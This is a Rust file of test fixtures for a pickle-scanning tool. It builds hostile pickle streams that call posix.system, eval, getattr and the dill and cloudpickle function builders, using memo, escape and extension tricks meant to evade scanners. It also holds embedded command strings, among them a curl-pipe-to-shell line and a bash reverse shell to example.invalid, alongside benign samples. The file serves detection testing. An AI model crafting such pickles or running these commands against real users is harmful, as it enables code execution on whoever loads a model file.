//! Streams that do harm by how they are built, and such as picklers write.

use super::{Pickle, base64, system};
use crate::Sample;

/// The files.
pub fn samples() -> Vec<Sample> {
    let mut samples = hostile();
    samples.extend(orders());
    samples.extend(benign());
    samples
}

#[expect(clippy::too_many_lines, reason = "a table")]
fn hostile() -> Vec<Sample> {
    let hostile = |what: &str, bytes, codes| Sample::hostile("pickle", what, "model.pkl", bytes, codes);
    let set = |pickle: Pickle, key: &str| pickle.text(key).text("x");
    let ordered = || Pickle::proto(2).global("collections", "OrderedDict");
    vec![
        hostile("posix.system by REDUCE", system().stop(), &["PKL001"]),
        hostile("call and then a break", system().raw(b"\xff").0, &["PKL001", "PKL006", "PKL007"])
            .from_advisory("GHSA-9gvj-pp9x-gcfr"),
        hostile("call and then an end", system().0, &["PKL001", "PKL006", "PKL007"])
            .from_advisory("GHSA-9gvj-pp9x-gcfr"),
        hostile(
            "magic number by eval",
            Pickle::proto(2).global("builtins", "eval").call("1").stop(),
            &["PKL001"],
        )
        .from_advisory("GHSA-97f8-7cmv-76j2"),
        hostile("second stream", [b"\x80\x02N.".to_vec(), system().stop()].concat(), &["PKL001"]),
        hostile(
            "names from the memo",
            Pickle::proto(4)
                .text("posix")
                .raw(b"\x940")
                .text("system")
                .raw(b"\x940h\x00h\x01\x93")
                .call("true")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "memo entry overwritten",
            Pickle::proto(4)
                .text("math")
                .raw(b"q\x000")
                .text("posix")
                .raw(b"q\x000h\x00")
                .text("system")
                .raw(b"\x93")
                .call("true")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "memo far apart",
            Pickle::proto(4)
                .text("posix")
                .raw(b"r\xff\xff\x0f\x000j\xff\xff\x0f\x00")
                .text("system")
                .raw(b"\x93")
                .call("true")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "memo in text",
            Pickle::old().raw(b"Vposix\np+7\n0g 7\nVsystem\n\x93(S'true'\ntR").stop(),
            &["PKL001"],
        ),
        hostile(
            "escapes",
            Pickle::old().raw(b"S'\\160osix'\nS'sy\\x73tem'\n\x93(S'true'\ntR").stop(),
            &["PKL001", "PKL010"],
        ),
        hostile(
            "escapes of Unicode",
            Pickle::old().raw(b"V\\u0070osix\nVsystem\n\x93(S'true'\ntR").stop(),
            &["PKL001"],
        ),
        hostile(
            "duplicate on the stack",
            Pickle::proto(4).text("posix").text("system").raw(b"\x9320").call("true").stop(),
            &["PKL001"],
        ),
        hostile(
            "mark that is popped",
            Pickle::proto(4).raw(b"(0(KK1").global("posix", "system").call("true").stop(),
            &["PKL001"],
        ),
        hostile(
            "frame that ends inside an opcode",
            Pickle::proto(4).raw(b"\x95\x03\0\0\0\0\0\0\0X\x01\0\0\0a.").0,
            &["PKL011"],
        ),
        hostile(
            "frame in a frame",
            Pickle::proto(4).raw(b"\x95\x0c\0\0\0\0\0\0\0\x95\x01\0\0\0\0\0\0\0NN.").0,
            &["PKL011"],
        ),
        hostile(
            "state of a function",
            ordered().raw(b"N}").text("__reduce__").text("x").raw(b"s\x86b").stop(),
            &["PKL012"],
        )
        .from_advisory("modelscan #85"),
        hostile(
            "attribute of a class, named later",
            set(ordered().raw(b"N}"), "hook")
                .raw(b"s\x86b0")
                .stack_global("collections", "OrderedDict.hook")
                .raw(b")R")
                .stop(),
            &["PKL012"],
        )
        .from_advisory("modelscan #330"),
        hostile(
            "slots with a special name",
            set(ordered().raw(b")RN}"), "__class__").raw(b"s\x86b").stop(),
            &["PKL012"],
        ),
        hostile(
            "state with a special name",
            set(ordered().raw(b")R}"), "__setstate__").raw(b"sb").stop(),
            &["PKL012"],
        ),
        hostile(
            "state from a call, with a special name",
            set(ordered().raw(b")R").global("collections", "OrderedDict").raw(b")R"), "__class__")
                .raw(b"sb")
                .stop(),
            &["PKL012"],
        ),
        hostile(
            "state from a call that is given pairs, with a special name",
            ordered()
                .raw(b")R")
                .global("collections", "OrderedDict")
                .raw(b"](")
                .text("__class__")
                .text("x")
                .raw(b"\x86e\x85Rb")
                .stop(),
            &["PKL012"],
        ),
        hostile(
            "slots from a call that is given pairs, with a special name",
            ordered()
                .raw(b")RN")
                .global("collections", "OrderedDict")
                .raw(b"](")
                .text("__class__")
                .text("x")
                .raw(b"\x86e\x85R\x86b")
                .stop(),
            &["PKL012"],
        ),
        hostile(
            "state of a class from the memo",
            set(Pickle::proto(2).global("collections", "OrderedDict").raw(b"q\x000h\x00}"), "popitem")
                .raw(b"sb")
                .stop(),
            &["PKL012"],
        ),
        hostile(
            "getattr in a chain",
            Pickle::proto(4)
                .global("builtins", "getattr")
                .global("collections", "OrderedDict")
                .raw(b")R")
                .text("x")
                .raw(b"\x86R)R")
                .stop(),
            &["PKL001", "PKL003"],
        )
        .from_advisory("modelscan #331"),
        hostile(
            "name that a call gives",
            Pickle::proto(4)
                .text("posix")
                .global("builtins", "str")
                .call("system")
                .raw(b"\x93")
                .call("true")
                .stop(),
            &["PKL003"],
        ),
        hostile(
            "harm as an argument",
            Pickle::proto(4)
                .global("collections", "defaultdict")
                .global("posix", "system")
                .raw(b"\x85R")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "harm in a dictionary",
            Pickle::proto(4).raw(b"}").text("hook").global("posix", "system").raw(b"s").stop(),
            &["PKL001"],
        ),
        hostile(
            "call of a registered extension",
            Pickle::proto(2).raw(b"\x82\x07)R").stop(),
            &["PKL003", "PKL004"],
        ),
        hostile(
            "extension of two bytes",
            Pickle::proto(2).raw(b"\x83\x07\x01)R").stop(),
            &["PKL003", "PKL004"],
        ),
        hostile(
            "extension of four bytes",
            Pickle::proto(2).raw(b"\x84\x07\0\x01\0)R").stop(),
            &["PKL003", "PKL004"],
        ),
        hostile(
            "call of what the loader gives",
            Pickle::old().raw(b"Pmodule-7\n)R").stop(),
            &["PKL003", "PKL005"],
        ),
        hostile("call in a persistent id", system().raw(b"Q").stop(), &["PKL001", "PKL005"]),
        hostile(
            "attribute of a harmless class",
            Pickle::proto(4)
                .stack_global("collections", "OrderedDict.__init__.__globals__")
                .raw(b")R")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "module of a module",
            Pickle::proto(4).stack_global("logging", "os.system").call("true").stop(),
            &["PKL001"],
        )
        .from_advisory("GHSA-mxhj-88fx-4pcv"),
        hostile(
            "name too long to be one",
            Pickle::old().global(&"a".repeat(2000), "b").raw(b")R").stop(),
            &["PKL003"],
        ),
        hostile("call that is popped", system().raw(b"0N").stop(), &["PKL001"]),
        hostile(
            "call in keywords",
            Pickle::proto(4)
                .global("collections", "OrderedDict")
                .raw(b")}")
                .text("a")
                .global("posix", "system")
                .call("true")
                .raw(b"s\x92")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "function of dill",
            Pickle::proto(4)
                .stack_global("dill._dill", "_create_function")
                .stack_global("dill._dill", "_create_code")
                .raw(b"(KK\x00KKtRR")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "function of cloudpickle",
            Pickle::proto(4)
                .stack_global("cloudpickle.cloudpickle", "_make_function")
                .raw(b"(NNNNNtR")
                .stop(),
            &["PKL001"],
        ),
        hostile(
            "type of cloudpickle",
            Pickle::proto(4).stack_global("cloudpickle.cloudpickle", "_builtin_type").call("CodeType").stop(),
            &["PKL001"],
        ),
    ]
}

/// Calls of functions that nobody knows, with texts that are orders.
fn orders() -> Vec<Sample> {
    let long = format!("import os\n{}", "# nothing\n".repeat(100));
    let texts = [
        ("Python code", "import os; os.system('true')".to_owned()),
        ("an import by name", "__import__('os').system('true')".to_owned()),
        ("eval", "eval('1')".to_owned()),
        ("exec in capitals", "EXEC('pass')".to_owned()),
        ("a shell", "/bin/sh -c true".to_owned()),
        ("a pipe to a shell", "curl example.invalid/a | sh".to_owned()),
        ("a reverse shell", "bash -i >& /dev/tcp/example.invalid/1 0>&1".to_owned()),
        ("a shell of Windows", "powershell -enc true".to_owned()),
        ("an address", "https://example.invalid/model.bin".to_owned()),
        ("code in base64", base64(b"import os; os.system('true')")),
        ("a command in base64", base64(b"curl example.invalid/a | sh")),
        ("code that is long", long),
    ];
    let mut samples = Vec::new();
    for (what, text) in &texts {
        let spellings = [
            Pickle::proto(4).stack_global("package.tools", "launch").call(text).stop(),
            Pickle::proto(2)
                .global("package.tools", "Launcher")
                .text("mode")
                .text(text)
                .raw(b"\x86\x81")
                .stop(),
            Pickle::proto(4)
                .raw(b"(")
                .global("package.tools", "launch")
                .text("a")
                .text(text)
                .raw(b"\x85o")
                .stop(),
        ];
        for bytes in spellings {
            samples.push(Sample::hostile(
                "orders",
                format!("call with {what}"),
                "model.pkl",
                bytes,
                &["PKL002", "PKL014"],
            ));
        }
    }
    samples
}

fn benign() -> Vec<Sample> {
    let benign = |what: &str, bytes| Sample::benign("pickle", what, "data.pkl", bytes);
    let array = Pickle::proto(3)
        .global("numpy.core.multiarray", "_reconstruct")
        .global("numpy", "ndarray")
        .raw(b"K\x00\x85C\x01b\x87R(K\x01K\x02\x85")
        .global("numpy", "dtype")
        .text("f8")
        .raw(b"\x89\x88\x87R(K\x03")
        .text("<")
        .raw(b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89C\x10")
        .raw(&[0; 16])
        .raw(b"tb")
        .stop();
    vec![
        benign("nothing", Pickle::proto(4).raw(b"N").stop()),
        benign(
            "dictionary",
            Pickle::proto(4)
                .raw(b"}\x94(")
                .text("a")
                .raw(b"K\x01")
                .text("b")
                .raw(b"]\x94(K\x01K\x02eu")
                .stop(),
        ),
        benign("frame", Pickle::framed(b"}\x94\x8c\x01aK\x01s.")),
        benign("protocol 0", b"(dp0\nVa\np1\nI1\nsVb\np2\nF1.5\ns.".to_vec()),
        benign("protocol 1", Pickle::old().raw(b"}q\x00(U\x01aq\x01K\x01U\x01bq\x02]q\x03K\x02au").stop()),
        benign(
            "bytes in protocol 2",
            Pickle::proto(2).global("_codecs", "encode").text("x").text("latin1").raw(b"\x86R").stop(),
        ),
        benign("array", array),
        benign(
            "date",
            Pickle::proto(4).stack_global("datetime", "date").raw(b"C\x04\x07\xea\x01\x01\x85R").stop(),
        ),
        benign("decimal number", Pickle::proto(4).stack_global("decimal", "Decimal").call("1.5").stop()),
        benign(
            "ordered dictionary",
            Pickle::proto(2).global("collections", "OrderedDict").raw(b")R(").text("a").raw(b"K\x01u").stop(),
        ),
        benign(
            "object with a text of its own",
            Pickle::proto(2)
                .global("collections", "OrderedDict")
                .raw(b")R}")
                .text("__doc__")
                .text("x")
                .raw(b"sb")
                .stop(),
        ),
        benign(
            "addresses that are data",
            Pickle::proto(4).raw(b"]").text("https://example.invalid/a").raw(b"a").stop(),
        ),
        benign("code that is data", Pickle::proto(4).raw(b"]").text("import os").raw(b"a").stop()),
        benign("set", Pickle::proto(4).raw(b"\x8f(K\x01K\x02\x90").stop()),
        benign("large numbers", Pickle::proto(2).raw(b"\x8a\x09\0\0\0\0\0\0\0\0\x01").stop()),
        benign("three streams", [b"\x80\x04N.".as_slice(); 3].concat()),
        benign(
            "memo that is used twice",
            Pickle::proto(4).raw(b"]\x94(").text("a").raw(b"\x94h\x01h\x01e").stop(),
        ),
        benign(
            "namespace",
            Pickle::proto(2)
                .global("argparse", "Namespace")
                .raw(b")\x81}")
                .text("lr")
                .raw(b"G?\xf0\0\0\0\0\0\0sb")
                .stop(),
        ),
    ]
}
